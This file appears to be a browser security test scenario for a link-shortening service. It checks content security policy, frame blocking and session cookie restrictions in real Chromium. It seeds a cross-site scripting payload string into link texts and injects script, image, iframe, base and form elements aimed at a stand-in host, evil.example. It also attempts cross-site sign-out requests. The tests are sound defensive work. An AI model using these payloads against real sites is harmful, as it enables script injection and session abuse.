import { seedOrganization } from '@throughlink/server/src/commands/seedOrganization.ts'
import { userAgents } from '@throughlink/server/test/support/browser.ts'
import type { ReportRow } from '@throughlink/tooling/base/report'
import { openBrowser } from '../harness/browser/openBrowser.ts'
import { exactly, requirement } from '../harness/report/rows.ts'
import { type Owner, signUp } from '../harness/servers/signUp.ts'
import { publicHost, type Service } from '../harness/servers/startService.ts'
import { appIdentities } from '../harness/servers/startTestbed.ts'
import type { SecurityScenario } from './scenario.ts'

type Browser = Awaited<ReturnType<typeof openBrowser>>
type Page = Awaited<ReturnType<Browser['newPage']>>

const domain = 'browser.example'
const slug = 'hostile'
const hostileText = `</title></script><script>stolen=1</script><img src=x onerror=stolen=1>"' onload=stolen=1 `
/** Time for a script, if it were allowed, to run. */
const settleMs = 300

/** Content security policy, framing and cookies, in real Chromium over TLS. */
export const browser: SecurityScenario = async ({ getService }) => {
  const service = await getService()
  const owner = await signUp(service)
  await seedHostileLink(service)
  const chromium = await openBrowser({ examplePort: service.caddy.httpsPort })
  try {
    return [
      ...(await checkLandingPage(chromium)),
      ...(await checkFraming(chromium)),
      ...(await checkCookies(chromium, owner)),
    ]
  } finally {
    await chromium.close()
  }
}

async function seedHostileLink({ bed }: Service): Promise<void> {
  const destination = 'https://lumen.example/a'
  await seedOrganization(bed.database.db, {
    name: hostileText,
    origin: `https://${domain}`,
    domain,
    app: { ...appIdentities, name: hostileText },
    links: [{ slug, destination, title: hostileText, description: hostileText }],
  })
}

async function openPhone(chromium: Browser): Promise<Page> {
  const context = await chromium.newContext({
    ignoreHTTPSErrors: true,
    userAgent: userAgents.iphone,
  })
  return context.newPage()
}

async function checkLandingPage(chromium: Browser): Promise<ReportRow[]> {
  const page = await openPhone(chromium)
  const response = await page.goto(`https://${domain}/${slug}`)
  await page.waitForTimeout(settleMs)
  const stolen = await page.evaluate('typeof stolen')
  const own = await page.evaluate('document.querySelectorAll("[data-click-id]").length')
  // What an injected element would try, had it come through the templates.
  const blocked = await page.evaluate(`(async () => {
    const kinds = new Set()
    addEventListener('securitypolicyviolation', (event) => kinds.add(event.effectiveDirective))
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties))
    add('script', { textContent: 'ran = 1' })
    add('script', { src: 'https://evil.example/a.js' })
    add('img', { src: 'https://evil.example/a.png' })
    add('iframe', { src: 'https://evil.example/' })
    add('style', { textContent: '* { color: red }' })
    add('base', { href: 'https://evil.example/' })
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })
    document.body.append(form)
    form.submit()
    document.body.insertAdjacentHTML('beforeend', '<p onclick="ran = 1">')
    document.body.lastElementChild.click()
    await fetch('https://evil.example/').catch(() => undefined)
    await new Promise((done) => setTimeout(done, ${settleMs}))
    return { ran: typeof ran, kinds: [...kinds].sort() }
  })()`)
  const { ran, kinds } = blocked as { readonly ran: string; readonly kinds: readonly string[] }
  const expected = [
    ...['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-attr'],
    ...['script-src-elem', 'style-src-elem'],
  ]
  const missing = expected.filter((kind) => !kinds.includes(kind))
  await page.context().close()
  return [
    requirement(
      'the landing page of a hostile link opens',
      response?.status() === 200,
      response?.status() ?? 0,
      200,
    ),
    requirement('the page has its own content', own === 1, String(own), '1'),
    requirement(
      'markup in the texts of a link does not run',
      stolen === 'undefined',
      String(stolen),
      'undefined',
    ),
    requirement('injected scripts do not run', ran === 'undefined', ran, 'undefined'),
    exactly(
      'injected elements that the policy does not block',
      missing.length,
      0,
      missing.join(', '),
    ),
  ]
}

async function checkFraming(chromium: Browser): Promise<ReportRow[]> {
  const page = await openPhone(chromium)
  // A landing page, an error page, and the page of the API's document. The policy of the dashboard is the same for
  // all of its files, and its own tests check it.
  const urls = [
    `https://${domain}/${slug}`,
    `https://${domain}/unknown`,
    `https://${publicHost}/api/reference/`,
  ]
  await page.goto(`https://${domain}/livez`)
  await page.setContent(urls.map((url) => `<iframe src="${url}"></iframe>`).join(''))
  await page.waitForTimeout(5 * settleMs)
  const shown = page.frames().filter((frame) => urls.includes(frame.url()))
  const shownUrls = shown.map((frame) => frame.url()).join(', ')
  await page.context().close()
  return [exactly('pages that another site can show in a frame', shown.length, 0, shownUrls)]
}

async function checkCookies(chromium: Browser, { email, password }: Owner): Promise<ReportRow[]> {
  const context = await chromium.newContext({ ignoreHTTPSErrors: true })
  const page = await context.newPage()
  await page.goto(`https://${publicHost}/api/auth/methods`)
  const body = JSON.stringify({ email, password })
  const status = await page.evaluate(`fetch('/api/auth/sign-in', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: ${JSON.stringify(body)},
  }).then((response) => response.status)`)
  const [cookie, ...more] = await context.cookies()
  const visible = await page.evaluate('document.cookie')
  const isStrict =
    cookie !== undefined &&
    cookie.name.startsWith('__Host-') &&
    cookie.httpOnly &&
    cookie.secure &&
    cookie.sameSite !== 'None' &&
    cookie.path === '/' &&
    cookie.domain === publicHost

  const evil = await context.newPage()
  await evil.goto(`https://${domain}/livez`)
  const read =
    await evil.evaluate(`Promise.all(['/api/auth/session', '/api/v1/organizations'].map((path) =>
    fetch('https://${publicHost}' + path, { credentials: 'include' }).then(() => 'read', () => 'refused')))`)
  const send = (path: string) =>
    evil.evaluate(`fetch('https://${publicHost}${path}', {
      method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}',
    }).then(() => undefined, () => undefined)`)
  await send('/api/auth/sign-out')
  await evil.setContent(
    `<form method="post" enctype="text/plain" action="https://${publicHost}/api/auth/sign-out"><input name='{"a":"' value='"}'></form>`,
  )
  await evil.evaluate('document.forms[0].submit()')
  await evil.waitForTimeout(3 * settleMs)
  const session = await page.evaluate(
    `fetch('/api/auth/session').then((response) => response.text())`,
  )
  await context.close()
  const isSignedIn = String(session).includes(email)
  const readable = (read as readonly string[]).filter((each) => each === 'read').length
  return [
    requirement('a person signs in', status === 200, String(status), '200'),
    requirement(
      'the session is one cookie with all restrictions',
      isStrict && more.length === 0,
      JSON.stringify({ ...cookie, value: '' }),
      'all',
    ),
    requirement('scripts do not see the session', visible === '', String(visible), 'nothing'),
    exactly('responses that another site can read', readable, 0),
    requirement(
      'another site cannot sign a person out',
      isSignedIn,
      isSignedIn ? 'signed in' : 'signed out',
      'signed in',
    ),
  ]
}
